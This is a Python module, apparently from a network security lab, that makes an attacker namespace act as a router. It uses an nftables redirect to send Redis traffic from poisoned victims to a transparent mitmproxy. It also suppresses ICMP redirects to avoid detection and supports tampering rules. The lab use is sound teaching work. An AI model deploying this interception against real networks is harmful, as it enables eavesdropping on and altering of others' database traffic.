"""The attacker host as a router that intercepts Redis: forwarding on, an nftables redirect, mitmproxy in
transparent mode, all inside the attacker's own namespace (its nft table dies with it).

Traffic the poisoned victims send to the attacker's MAC is forwarded as a router would, except TCP to the
Redis server's port, which nftables redirects to mitmproxy; mitmproxy reads the original destination from
the socket and connects to the real server itself.
"""

from __future__ import annotations

import contextlib
import shutil
from collections.abc import Iterator, Sequence
from pathlib import Path

from lab import procs
from lab.errors import UserError
from lab.mitm.certs import AttackerTLS
from lab.mitm.runner import MitmProxy, MitmSpec, run_mitm
from lab.mitm.tamper import TamperRule
from lab.netlab.namespaces import LiveHost, Network

NFT_TABLE = "tlslab_mitm"


def nft_ruleset(server: str, ports: Sequence[int], mitm_port: int) -> str:
    rules = "".join(f"    ip daddr {server} tcp dport {p} redirect to :{mitm_port}\n" for p in ports)
    return (f"table ip {NFT_TABLE} {{\n"
            f"  chain prerouting {{\n"
            f"    type nat hook prerouting priority dstnat; policy accept;\n"
            f"{rules}"
            f"  }}\n"
            f"}}\n")


def _router_mode(iface: str) -> None:
    """In the attacker's namespace (called through Network.call): forward, and send no ICMP redirects (they
    would tell the victims the direct path, giving the attack away)."""
    for path, value in (("/proc/sys/net/ipv4/ip_forward", "1"),
                        ("/proc/sys/net/ipv4/conf/all/send_redirects", "0"),
                        (f"/proc/sys/net/ipv4/conf/{iface}/send_redirects", "0")):
        with open(path, "w") as fh:
            fh.write(value)


def nft_tables(net: Network, host: LiveHost) -> str:
    """`nft list tables` inside the host (what tests assert on)."""
    return net.call(host.name, lambda: procs.run(["nft", "list", "tables"], capture_output=True,
                                                      text=True).stdout)


@contextlib.contextmanager
def intercept(net: Network, attacker: LiveHost, server: str, ports: Sequence[int], tls: AttackerTLS,
              workdir: Path, tamper: tuple[TamperRule, ...] = (),
              scripts: tuple[Path, ...] = ()) -> Iterator[MitmProxy]:
    """mitmproxy (transparent) on the attacker host, with Redis traffic to server:ports redirected to it."""
    nft = shutil.which("nft")
    if nft is None:
        raise UserError("nft is not installed: apt-get install nftables")
    spec = MitmSpec(server, ports[0], tls, tamper, listen_host=attacker.address, transparent=True,
                    scripts=scripts)
    with contextlib.ExitStack() as stack:
        mitm = net.enter(attacker.name, run_mitm(spec, workdir), stack)
        net.call(attacker.name, _router_mode, attacker.iface)
        loaded = net.call(attacker.name, procs.run, [nft, "-f", "-"], capture_output=True, text=True,
                          input=nft_ruleset(server, ports, mitm.port))
        if loaded.returncode != 0:
            raise UserError(f"nft refused the redirect: {loaded.stderr.strip()}")
        stack.callback(net.call, attacker.name, procs.run, [nft, "delete", "table", "ip", NFT_TABLE],
                       capture_output=True)
        yield mitm
